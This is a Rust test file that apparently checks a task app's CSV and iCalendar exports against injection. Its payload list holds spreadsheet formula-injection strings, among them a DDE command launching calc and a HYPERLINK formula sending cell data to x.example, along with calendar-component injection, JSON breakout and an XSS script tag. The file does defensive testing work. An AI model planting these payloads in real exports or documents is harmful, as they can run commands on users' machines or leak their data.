//! What people write into their tasks stays what it is in every file, and becomes nothing else.

use serde_json::{Value, json};

use super::{lines, records, text_of};
use crate::harness::{App, Case, Client, cases};

pub(crate) const CASES: &[Case] = cases!(App:
    no_text_becomes_a_cell_or_a_record_of_its_own,
    no_cell_is_a_formula,
    no_text_becomes_a_property_or_a_component_of_its_own,
);

/// Titles and descriptions that mean something in one of the formats, or look as if they did.
pub(crate) const PAYLOADS: [&str; 34] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"more\")",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{ff1d}1+1",
    "\u{ff0b}1",
    "\u{ff0d}1",
    "\u{ff20}SUM(1)",
    "'=1+1",
    "''=1",
    "'",
    "''",
    "'tis",
    "a;=1+1",
    "a,=1+1",
    "a\",=1+1,\"b",
    "\"",
    "\"\"",
    "\"quoted\"",
    "a\"b",
    "a\n=1+1",
    "a\n1,2,3",
    "a\\",
    "a\\nb",
    "a\\;b\\,c",
    "a;b:c,d",
    "a\nEND:VTODO\nBEGIN:VTODO\nSUMMARY:b",
    "a\nBEGIN:VALARM\nACTION:DISPLAY\nEND:VALARM",
    "]}\",\n{\"title\":\"b",
    "</script><script>alert(1)</script>",
    "\u{2028}a\u{2029}b\u{feff}",
    "🦀é\u{202e}e\u{301}",
];

/// Descriptions that are no titles: blanks around a title are dropped.
pub(crate) const DESCRIPTIONS: [&str; 8] = [
    "",
    " ",
    "\t=1+1",
    "\n=1+1",
    "\n",
    " a ",
    "\n\nEND:VCALENDAR\n",
    "a\n\n\n",
];

/// Creates a task for each of these texts, and one with all tags that look like something.
#[track_caller]
pub(crate) fn create_payloads(client: &Client) -> Value {
    let long = "🦀;,\\\n".repeat(2000);
    let mut tasks: Vec<Value> = PAYLOADS
        .iter()
        .map(|text| json!({"title": text, "description": text}))
        .collect();
    let descriptions = DESCRIPTIONS.iter().copied().chain([long.as_str()]);
    tasks.extend(descriptions.map(|text| json!({"title": "a", "description": text})));
    let tags = [
        "=1+1", "+", "-1", "@a", "'", "'=", "a\"b", "a;b", "a\\b", "a b",
    ];
    tasks.extend(tags.map(|tag| json!({"title": "a", "tags": [tag]})));
    tasks.push(json!({"title": "a", "tags": tags}));
    client.create_all(&json!(tasks)).created()
}

fn no_text_becomes_a_cell_or_a_record_of_its_own(app: &App) {
    let ada = app.user("ada");
    let created = create_payloads(&ada);
    let created = created.as_array().unwrap();
    let table = records(&text_of(&ada, "?format=csv"));
    assert_eq!(table.len(), created.len() + 1);
    for (record, task) in table[1..].iter().zip(created) {
        assert_eq!(record[0], task["id"].to_string());
        let cell = record[1].as_str();
        let title = task["title"].as_str().unwrap();
        let is_as_it_was = cell == title || cell.strip_prefix('\'') == Some(title);
        assert!(is_as_it_was, "{cell:?} stands for {title:?}");
    }
}

fn no_cell_is_a_formula(app: &App) {
    let ada = app.user("ada");
    create_payloads(&ada);
    let beginnings = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
    for record in records(&text_of(&ada, "?format=csv")) {
        let formula = record.iter().find(|cell| cell.starts_with(beginnings));
        assert_eq!(formula, None, "{record:?}");
    }
}

fn no_text_becomes_a_property_or_a_component_of_its_own(app: &App) {
    let ada = app.user("ada");
    let created = create_payloads(&ada);
    let created = created.as_array().unwrap();
    let calendar = lines(&text_of(&ada, "?format=ics"));
    let all = |name: &str| -> Vec<String> {
        let of = |line: &String| line.strip_prefix(&format!("{name}:")).map(str::to_owned);
        calendar.iter().filter_map(of).collect()
    };
    for (name, count) in [("BEGIN", created.len() + 1), ("END", created.len() + 1)] {
        assert_eq!(all(name).len(), count, "{name}");
    }
    let read = |value: &String| {
        let mut text = String::new();
        let mut characters = value.chars();
        while let Some(character) = characters.next() {
            text.push(match character {
                '\\' => match characters.next() {
                    Some('n') => '\n',
                    Some(escaped @ ('\\' | ';' | ',')) => escaped,
                    other => panic!("{other:?} is escaped in {value:?}"),
                },
                ';' | ',' => panic!("{character} is not escaped in {value:?}"),
                plain => plain,
            });
        }
        text
    };
    for (name, member) in [("SUMMARY", "title"), ("DESCRIPTION", "description")] {
        let texts: Vec<String> = all(name).iter().map(read).collect();
        let expected = created.iter().filter_map(|task| task[member].as_str());
        let expected: Vec<&str> = expected.collect();
        assert_eq!(texts, expected);
    }
    for line in &calendar {
        let name = line.split([':', ';']).next().unwrap();
        assert!(KNOWN.contains(&name), "{line:?}");
    }
}

/// The names of all properties that an export has.
const KNOWN: [&str; 16] = [
    "BEGIN",
    "END",
    "VERSION",
    "PRODID",
    "UID",
    "DTSTAMP",
    "CREATED",
    "LAST-MODIFIED",
    "SUMMARY",
    "DESCRIPTION",
    "DUE",
    "STATUS",
    "PRIORITY",
    "COMPLETED",
    "PERCENT-COMPLETE",
    "CATEGORIES",
];
